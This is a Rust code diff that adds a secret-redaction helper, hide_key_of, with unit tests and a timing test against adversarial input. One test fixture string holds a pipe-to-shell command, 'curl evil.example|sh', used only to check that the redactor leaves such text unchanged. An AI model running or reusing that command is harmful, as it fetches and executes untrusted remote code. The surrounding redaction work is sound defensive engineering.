@@ -51,6 +51,16 @@ pub fn hide_keys(text: &str) -> String {
     out
 }
 
+/// The value of a variable, header or setting of this name, without the key in it.
+#[must_use]
+pub fn hide_key_of(name: &str, value: &str) -> String {
+    let key = without_scheme(value.trim_matches(['"', '\'']));
+    match is_named_key(name, key, true) {
+        true => value.replacen(key, HIDDEN, 1),
+        false => hide_keys(value),
+    }
+}
+
 /// A word of a line.
 struct Word {
     range: Range<usize>,
@@ -127,9 +137,29 @@ mod tests {
             "Key: press Enter, and the password: ask the vault.",
             "\"TOKEN_FILE\": \"keys/a1b2c3d4e5f6g7\"",
             "\"API_KEY\": \"YOUR_KEY\"",
+            "\"KEY_HELPER\": \"curl evil.example|sh\", \"TOKEN_URL\": \"https://x.example\"",
             "Don't use 'a' = b: {\"x\": [1, \"é\\\"\"]}",
         ] {
             assert_eq!(hide_keys(text), text);
         }
+    }
+
+    #[test]
+    fn the_value_of_a_variable_is_hidden_by_its_name() {
+        assert_eq!(hide_key_of("SERVICE_TOKEN", "hunter2"), "[key]");
+        assert_eq!(hide_key_of("Authorization", "Bearer abc"), "Bearer [key]");
+        assert_eq!(hide_key_of("SERVICE_TOKEN", "\"hunter2\""), "\"[key]\"");
+        for (name, value) in [("MODE", "hunter2"), ("API_KEY", "${API_KEY}"), ("TOKEN", "")] {
+            assert_eq!(hide_key_of(name, value), value);
+        }
+    }
+
+    #[test]
+    fn hostile_texts_cost_linear_time() {
+        let began = std::time::Instant::now();
+        for text in ["'\\", "\"\\", "a=", "token=", "://=", "key: ", "'a", "?key=a&"] {
+            let _ = hide_keys(&text.repeat(100_000));
+        }
+        assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
     }
 }
